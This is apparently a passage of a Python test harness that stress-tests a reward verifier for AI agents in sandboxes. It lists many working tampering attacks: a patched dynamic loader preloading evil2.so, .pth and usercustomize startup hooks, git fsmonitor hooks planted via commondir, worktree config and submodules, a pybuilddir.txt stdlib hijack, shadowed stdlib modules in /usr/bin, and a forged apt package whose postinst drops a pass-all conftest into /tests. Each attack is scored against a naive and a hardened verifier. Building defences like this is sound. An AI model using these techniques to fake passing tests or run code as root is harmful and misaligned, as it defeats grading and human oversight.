           _v3(f"echo {KIT}/evil2.so > {KIT}/pre && python3 - <<'JRT_EOF'\n{LOADER_PATCH}\nJRT_EOF\n"
               "L=$(readlink -f /lib64)/ld-linux-x86-64.so.2 && test -L $L && "
               f"ln -sfn {MAGIC}{KIT}/l64/ld-linux-x86-64.so.2 $L && /bin/true"),
           "/usr/lib64/ld-linux-x86-64.so.2 (a link in the image; the toolchain files list /lib64/... and the "
           "real file) -> a patched loader whose preload file is KIT/pre: every dynamic program of the scripts "
           "(bash test.sh first) loads evil2.so", needs_so=True),
    Attack("/lib64 re-pointed through /proc/self/root", "links",
           _v3(f"echo {KIT}/evil2.so > {KIT}/pre && python3 - <<'JRT_EOF'\n{LOADER_PATCH}\nJRT_EOF\n"
               f"ln -sfn {MAGIC}{KIT}/l64 /lib64 && /bin/true"),
           "round 3's /lib64 attack with the link's target spelled through /proc/self/root", needs_so=True),
    Attack(".pth directory line through /proc/self/root + usercustomize", "startup",
           f"mkdir -p {KIT}/uc && cp {KIT}/evilhook.py {KIT}/uc/usercustomize.py && "
           f"echo {MAGIC}{KIT}/uc > $SITE/zz_jrt.pth",
           "pth_dirs holds the line's text; usercustomize.py is listed under /tmp/... (and /tmp is the agent's)"),
    Attack(".pth directory line with two leading slashes + usercustomize", "startup",
           f"mkdir -p {KIT}/uc && cp {KIT}/evilhook.py {KIT}/uc/usercustomize.py && echo /{KIT}/uc > $SITE/zz_jrt.pth",
           "normpath('//tmp/x') keeps both slashes; site's abspath does too and the kernel reads it as /tmp/x"),
]
ATTACKS_V4 += [
    Attack("git: .git/commondir -> a repo in /tmp (config and hooks there)", "tool hooks",
           _v3(f"rm -rf {KIT}/crepo && git init -q {KIT}/crepo && git -C {KIT}/crepo config core.fsmonitor "
               f"{KIT}/plant.sh && rm -rf /app/.git && mkdir -p /app/.git && "
               "echo 'ref: refs/heads/master' > /app/.git/HEAD && " + f"echo {KIT}/crepo/.git > /app/.git/commondir "
               "&& cd /app && git config --get core.fsmonitor"),
           "/app/.git is a directory (no file or link to flag) holding HEAD and commondir: git reads the repository's "
           "config (core.fsmonitor) and hooks from the common dir in /tmp, not ./.git/config"),
    Attack("work dir -> /tmp/... (plain link, control)", "links",
           _cwd_kit(f"{KIT}/cwd4") + _workdir_link(f"{KIT}/cwd4"), "resolve's own case, yet it wins: stat_requests skips the work dir, so resolve never learns /app is a link"),
]
ATTACKS_V4 += [
    Attack(".pth directory line -> a link in /tmp + usercustomize", "startup",
           f"mkdir -p {KIT}/uc && cp {KIT}/evilhook.py {KIT}/uc/usercustomize.py && ln -sfn {KIT}/uc {KIT}/alias && "
           f"echo {KIT}/alias > $SITE/zz_jrt.pth",
           "links in the agent's areas are never stat'ed, so resolve never maps KIT/uc to KIT/alias (the .pth's "
           "directory)"),
    Attack(".pth directory line -> a __pycache__ dir holding usercustomize.py", "startup",
           "mkdir -p $SITE/__pycache__ && " + f"cp {KIT}/evilhook.py $SITE/__pycache__/usercustomize.py && "
           "echo $SITE/__pycache__ > $SITE/zz_jrt.pth",
           "every path with a __pycache__ component is skipped (bytecode is never read), but a .pth directory line "
           "can put such a directory on sys.path: its .py files are source, not bytecode"),
]
ATTACKS_V4 += [
    Attack("git: fsmonitor in .git/config.worktree (extensions.worktreeConfig)", "tool hooks",
           _v3("rm -rf /app/.git && git init -q /app && git -C /app config core.repositoryformatversion 1 && "
               "git -C /app config extensions.worktreeConfig true && "
               f"printf '[core]\\n\\tfsmonitor = {KIT}/plant.sh\\n' > /app/.git/config.worktree && "
               "git -C /app config --get core.fsmonitor"),
           "./.git/config only turns the extension on (no key that runs a command); git also reads "
           "./.git/config.worktree, which the check does not read"),
]
# pybuilddir.txt beside the real interpreter: getpath takes the python for an uninstalled build; its stdlib becomes
# <exe dir>/<VPATH>/Lib (a copy the agent prepared), lib-dynload the dir the file names
BUILDDIR = f"""
import os, sys, sysconfig
exe = os.path.realpath(sys.executable)
d = os.path.dirname(exe)
prefix = os.path.normpath(os.path.join(d, sysconfig.get_config_var("VPATH") or "."))
std = os.path.dirname(os.__file__)
dyn = os.path.join(sysconfig.get_path("platstdlib"), "lib-dynload")
lib = os.path.join(prefix, "Lib")
assert not os.path.exists(lib)
os.system("cp -as %s %s" % (std, lib))
for n in ("sitecustomize.py", "usercustomize.py"):  # Debian's is a link into /etc: leave start-up modules out
    if os.path.lexists(os.path.join(lib, n)):
        os.unlink(os.path.join(lib, n))
os.unlink(os.path.join(lib, "encodings", "__init__.py"))
src = open(os.path.join(std, "encodings", "__init__.py")).read()
open(os.path.join(lib, "encodings", "__init__.py"), "w").write(src + "\\n" + {HOOK_LINE!r} + "\\n")
open(os.path.join(d, "pybuilddir.txt"), "w").write(os.path.relpath(dyn, d) + "\\n")
"""
ATTACKS_V4 += [
    Attack("pybuilddir.txt: the image's python becomes a build tree", "startup",
           f"python3 - <<'JRT_EOF'\n{BUILDDIR}\nJRT_EOF\npython3 -c 'import sys; assert any(p.endswith(\"/Lib\") for p in sys.path)'",
           "a new pybuilddir.txt next to the real python3 (a PATH dir; no command of that name): getpath reads the "
           "stdlib from <exe>/<VPATH>/Lib, a link farm of the image's stdlib with a hooked encodings/__init__.py; "
           "neither name nor place is one the rules know"),
]
ATTACKS = [*ATTACKS, *ATTACKS_V4]

# -- round 3 (written against this design): tool state, nested repositories, an image script's own directory

# A package the test scripts' `apt-get install curl` takes from the agent: apt's *state* (the package lists in
# /var/lib/apt/lists and the archive cache in /var/cache/apt/archives), not its configuration (/etc/apt), is changed.
# A list with a newer `curl` whose hash matches a .deb already in the cache: offline `apt-get update` keeps the old
# lists, `apt-get install` finds the .deb in the cache (no download), dpkg runs its postinst as root during test.sh.
APT_STATE = f"""
W={KIT}/deb; rm -rf $W; mkdir -p $W/DEBIAN
printf 'Package: curl\\nVersion: 99:1.0\\nArchitecture: amd64\\nMaintainer: x <x@x>\\nDescription: x\\n' > $W/DEBIAN/control
printf '#!/bin/sh\\ncp {KIT}/evilplugin.py /tests/conftest.py 2>/dev/null || true\\nexit 0\\n' > $W/DEBIAN/postinst
chmod 755 $W/DEBIAN/postinst
dpkg-deb -b $W {KIT}/curl.deb >/dev/null
F=/var/cache/apt/archives/curl_99%3a1.0_amd64.deb
cp {KIT}/curl.deb $F
L=$(ls /var/lib/apt/lists/*_Packages | head -1)
printf '\\nPackage: curl\\nVersion: 99:1.0\\nArchitecture: amd64\\nMaintainer: x <x@x>\\nInstalled-Size: 1\\nFilename: pool/main/c/curl/curl_99.deb\\nSize: %s\\nSHA256: %s\\nDescription: x\\n\\n' $(stat -c %s $F) $(sha256sum $F | cut -d' ' -f1) >> $L
apt-cache policy curl | grep -q 'Candidate: 99:1.0'
"""

ATTACKS_V5 = [
    Attack("apt state: planted package list + cached .deb (postinst)", "tool state", APT_STATE,
           "no file of /etc/apt or /etc/dpkg changes; apt's lists and archive cache are data the rules never read"),
]


# git recurses into nested repositories: `git status` in /app spawns `git status` in every populated submodule (a
# gitlink of /app's index), which reads *that* repository's config. The rules read ./.git/config of the scripts' cwd
# chain only; /app/sub/.git/config is "the agent's work dir".
NESTED_GIT = (f"rm -rf /app/.git /app/sub && git init -q /app/sub && git -C /app/sub -c user.email=a@b -c user.name=a "
              "commit -q --allow-empty -m x && git init -q /app && "
              "printf '[submodule \"sub\"]\\n\\tpath = sub\\n\\turl = ./sub\\n' > /app/.gitmodules && "
              "git -C /app add .gitmodules sub && git -C /app -c user.email=a@b -c user.name=a commit -q -m x && "
              f"git -C /app/sub config core.fsmonitor {KIT}/plant.sh && git -C /app/sub config --get core.fsmonitor")
ATTACKS_V5 += [
    Attack("git: fsmonitor in a nested submodule's own .git/config", "tool hooks", _v3(NESTED_GIT),
           "git status recurses into populated submodules; the submodule's repository config is read, not checked"),
]

# A Python *script* of the image (/usr/bin/pip, /usr/bin/pytest: `#!/usr/bin/python3`, not -I) gets its own
# directory as sys.path[0]: a new /usr/bin/<stdlib name>.py hides the stdlib module from that script only. The rules
# check such names in site dirs, the work dir and `/`, never in the directory of an image script the tests run.
SCRIPT_DIR_MODULE = (f"printf 'import os\\nos.system(\"{KIT}/plant.sh\")\\nraise SystemExit(0)\\n' > /usr/bin/optparse.py"
                     " && head -1 /usr/bin/pip | grep -q python3")
ATTACKS_V5 += [
    Attack("module in the directory of an image python script (/usr/bin/optparse.py, run by pip)", "import path",
           _v3(SCRIPT_DIR_MODULE),
           "sys.path[0] of /usr/bin/pip is /usr/bin: optparse is found there before the stdlib"),
]

ATTACKS = [*ATTACKS, *ATTACKS_V5]


# ------------------------------------------------------------------------------------------- runners


def runner_tasks(tmp: Path) -> dict[str, object]:
    """One task per runner: built-in pytest, Harbor test.sh, TB1 run-tests.sh, exported Harbor pytest, and a Harbor
    test.sh that runs apt-get, curl | sh, pip and git first (the tool hooks)."""
    from jaxrl_term.tasks.builtin import generate
    from jaxrl_term.tasks.formats import export_harbor, load_tasks

    builtin = generate("csv_stats", "medium", seed=11)
    exported = load_tasks(export_harbor([builtin], tmp / "exported"))[0]
    return {"built-in pytest": builtin, "Harbor test.sh": load_tasks(FIXTURES / "harbor-json-keys")[0],
            "TB1 run-tests.sh": load_tasks(FIXTURES / "tb1-word-count")[0], "exported Harbor pytest": exported,
            "Harbor test.sh with tools": tools_task()}


TOOLS_TEST_SH = """#!/bin/bash
# A Harbor verifier in the common shape: it sets up its tools first (apt-get, the uv installer through curl | sh,
# pip; offline each step fails or does nothing, quietly), looks at the work dir's repository, runs pytest and
# writes the reward.
apt-get update >/dev/null 2>&1
apt-get install -y --no-install-recommends curl >/dev/null 2>&1
curl -LsSf https://astral.sh/uv/0.7.13/install.sh 2>/dev/null | sh >/dev/null 2>&1
if [ -f "$HOME/.local/bin/env" ]; then source "$HOME/.local/bin/env"; fi
pip install -q pytest >/dev/null 2>&1
cd /app
git status --porcelain >/dev/null 2>&1
python3 -m pytest /tests/test_outputs.py -rA -p no:cacheprovider
if [ $? -eq 0 ]; then echo 1 > /logs/verifier/reward.txt; else echo 0 > /logs/verifier/reward.txt; fi
"""
TOOLS_TEST_PY = """import json
from pathlib import Path


def test_keys_file_exists():
    assert Path("/app/keys.txt").is_file()


def test_keys_sorted():
    assert Path("/app/keys.txt").read_text().split() == sorted(json.load(open("/app/data.json")))
"""


def tools_task():
    """harbor-json-keys with a test.sh that runs apt-get, curl | sh, pip and git before pytest (the tool hooks)."""
    from jaxrl_term.tasks.formats import load_tasks
    from jaxrl_term.tasks.task import FileBlob, Tests

    task = load_tasks(FIXTURES / "harbor-json-keys")[0]
    tests = Tests("harbor", {"test.sh": FileBlob(TOOLS_TEST_SH.encode(), 0o755),
                             "test_outputs.py": FileBlob(TOOLS_TEST_PY.encode())}, "test.sh")
    return dataclasses.replace(task, id=f"{task.id}-tools", tests=tests)


@dataclasses.dataclass
class Attempt:
    attack: str
    cls: str
    runner: str
    backend: str
    applied: bool  # the tampering step landed (on the local backend most system paths are read-only)
    naive: float | None  # the pre-hardening verifier's score (None: it errored)
    outcome: str
    score: float | None
    error: str = ""
    seconds: float = 0.0

    @property
    def defended(self) -> bool:
        return self.score == 0.0 or self.outcome in ("tampered", "verifier_sabotaged")


async def naive_verify(task, sb) -> float | None:
    """The verifier before reward hardening (for the positive control): tests copied into a wiped /tests, the
    image's python3 from PATH with the work dir off sys.path and pytest rooted at /tests; TB1/Harbor scripts as they
    are; no process kill, no tamper check. Returns the score, None for a verifier error."""
    from jaxrl_term.reward.verifier import parse_junit, score_of, weights_for

    nonce = uuid.uuid4().hex
    res_dir = f"/logs/verifier/.{nonce}"
    wd = task.environment.workdir
    wipe = ("for d in /logs /tests /logs/verifier; do if [ -L \"$d\" ] || { [ -e \"$d\" ] && [ ! -d \"$d\" ]; }; "
            "then rm -rf \"$d\"; fi; mkdir -p \"$d\"; done; find /tests /logs/verifier -mindepth 1 -delete; "
            f"mkdir -p {res_dir} {shlex.quote(wd)}")
    try:
        if (await sb.exec(["bash", "-c", wipe], 60)).exit_code != 0:
            return None
        for rel, blob in task.tests.files.items():
            await sb.write_file(f"/tests/{rel}", blob.data, blob.mode)
        env = {"TEST_DIR": "/tests", "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1", "HOME": "/root", "LANG": "C.UTF-8",
               "PYTHONDONTWRITEBYTECODE": "1"}
        junit = f"{res_dir}/junit.xml"
        if task.tests.runner == "pytest":
            await sb.write_file(f"{res_dir}/pytest.ini", b"[pytest]\n")
            argv = ["python3", "-c", ("import os, sys; sys.path[:] = [p for p in sys.path if p not in ('', '.', "
                    "os.getcwd())]; import pytest; sys.exit(pytest.main(sys.argv[1:]))"),
                    f"/tests/{task.tests.entry}", "-p", "no:cacheprovider", "-c", f"{res_dir}/pytest.ini",
                    "--rootdir=/tests", "--confcutdir=/tests", f"--junitxml={junit}"]
        else:
            if task.tests.runner == "run-tests.sh":
                env["PYTEST_ADDOPTS"] = f"--junitxml={junit} -p no:cacheprovider"
            argv = ["bash", f"/tests/{task.tests.entry}"]
        res = await sb.exec(argv, task.test_timeout_s, env=env, workdir=wd)
        if res.timed_out:
            return 0.0
        if task.tests.runner == "harbor":
            try:
                return min(max(float((await sb.read_file("/logs/verifier/reward.txt")).decode().strip()), 0.0), 1.0)
            except Exception:  # noqa: BLE001
                raw = json.loads(await sb.read_file("/logs/verifier/reward.json"))
                return float(raw.get("reward", 0.0))
        passed = parse_junit(await sb.read_file(junit))
        return score_of(passed, weights_for(list(passed), task.tests.weights), "weighted") if passed else None
    except Exception:  # noqa: BLE001 - the naive verifier could not run or report: an error, as it was
        return None


def evil_so(source: str = EVIL_SO_C) -> bytes:
    with tempfile.TemporaryDirectory() as d:
        (Path(d) / "evil.c").write_text(source)
        subprocess.run(["gcc", "-shared", "-fPIC", "-O1", "-o", f"{d}/evil.so", f"{d}/evil.c"], check=True)
        return (Path(d) / "evil.so").read_bytes()


@functools.lru_cache(maxsize=1)
def evil2_so() -> bytes:
    return evil_so(EVIL2_SO_C.replace("CONFTEST", json.dumps(PASSALL_CONFTEST)).replace("KIT", json.dumps(KIT)))


@functools.lru_cache(maxsize=1)
def late_so() -> bytes:
    return evil_so(LATE_SO_C.replace("CONTENT", json.dumps(SELF_DELETING_HOOK))
                   .replace("TARGET", json.dumps(f"{LATE_DIR}/usercustomize.py")))


async def attempt(task, runner: str, attack: Attack, backend: str, builder, so: bytes, naive: bool = True) -> Attempt:
    from jaxrl_term.reward.verifier import verify
    from jaxrl_term.tasks.env import open_task_sandbox

    t0 = time.monotonic()
    async with open_task_sandbox(task, backend=backend, builder=builder) as sb:
        if attack.needs_so:
            await sb.run(f"mkdir -p {KIT}", 10)
            await sb.write_file(f"{KIT}/evil.so", so, 0o755)
            await sb.write_file(f"{KIT}/evil2.so", evil2_so(), 0o755)
            await sb.write_file(f"{KIT}/late.so", late_so(), 0o755)
        try:
            step = await sb.run(f"{PRELUDE}\n( {attack.script}\n)", 60)
            applied = step.exit_code in (0, None)  # None: the attack took the shell down
        except Exception:  # noqa: BLE001 - an attack may take the agent's shell down with it
            applied = True
        naive_score = await naive_verify(task, sb) if naive else None
        res = await verify(task, sb, fresh=lambda: open_task_sandbox(task, backend=backend, builder=builder))
    return Attempt(attack.name, attack.cls, runner, backend, applied, naive_score, res.outcome, res.score,
                   res.error or "", time.monotonic() - t0)


async def matrix(backends=("docker", "local"), attacks=ATTACKS, runners=None, *, jobs: int = 4,
                 naive: bool = True) -> list[Attempt]:
    from jaxrl_term.sandbox.images import ImageBuilder

    builder = ImageBuilder() if "docker" in backends else None
    so = evil_so()
    sem = asyncio.Semaphore(jobs)
    with tempfile.TemporaryDirectory() as tmp:
        tasks = runner_tasks(Path(tmp))
        if runners:
            tasks = {k: v for k, v in tasks.items() if k in runners}

        async def one(runner, task, attack, backend):
            async with sem:
                return await attempt(task, runner, attack, backend, builder, so, naive)

        return list(await asyncio.gather(*(one(r, t, a, b) for b in backends for r, t in tasks.items()
                                           for a in attacks)))


SHORT = {"tampered": "T", "verifier_sabotaged": "S", "verifier_error": "E"}


def cell(a: Attempt) -> str:
    naive = "err" if a.naive is None else f"{a.naive:g}"
    new = SHORT.get(a.outcome) or ("?" if a.score is None else f"{a.score:g}")
    return f"{naive} → {new}" + ("" if a.applied else " (refused)")


def markdown(attempts: list[Attempt]) -> str:
    """attack class x runner x backend -> "naive score → outcome" as a markdown table."""
    cols = list(dict.fromkeys((a.runner, a.backend) for a in attempts))
    rows = list(dict.fromkeys((a.cls, a.attack) for a in attempts))
    by = {(a.cls, a.attack, a.runner, a.backend): a for a in attempts}
    lines = ["| class | attack | " + " | ".join(f"{r} ({b})" for r, b in cols) + " |",
             "|---|---|" + "---|" * len(cols)]
    for cls, name in rows:
        lines.append(f"| {cls} | {name} | " + " | ".join(cell(by[(cls, name, r, b)]) if (cls, name, r, b) in by
                                                        else "" for r, b in cols) + " |")
    fooled = sum(a.naive == 1.0 and a.cls != "control" for a in attempts)
    held = sum(a.defended for a in attempts if a.cls != "control")
    total = sum(a.cls != "control" for a in attempts)
    lines.append("")
    lines.append(f"{total} tampered attempts: the naive verifier scored {fooled} of them 1.0; the hardened one scores "
                 f"{held} of {total} 0 or flags them.")
    return "\n".join(lines)


def main(argv=None) -> int:
    import argparse

    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--backend", nargs="+", default=["docker", "local"])
    ap.add_argument("--jobs", type=int, default=4)
    ap.add_argument("--json", help="also write every attempt as JSON here")
    args = ap.parse_args(argv)
    t0 = time.monotonic()
    attempts = asyncio.run(matrix(tuple(args.backend), jobs=args.jobs))
    if args.json:
        Path(args.json).write_text(json.dumps([dataclasses.asdict(a) for a in attempts], indent=1))
    print(markdown(attempts))
    print(f"\n({len(attempts)} attempts in {time.monotonic() - t0:.0f} s)", file=sys.stderr)
    return 0 if all(a.defended for a in attempts if a.cls != "control") else 1


if __name__ == "__main__":
    raise SystemExit(main())

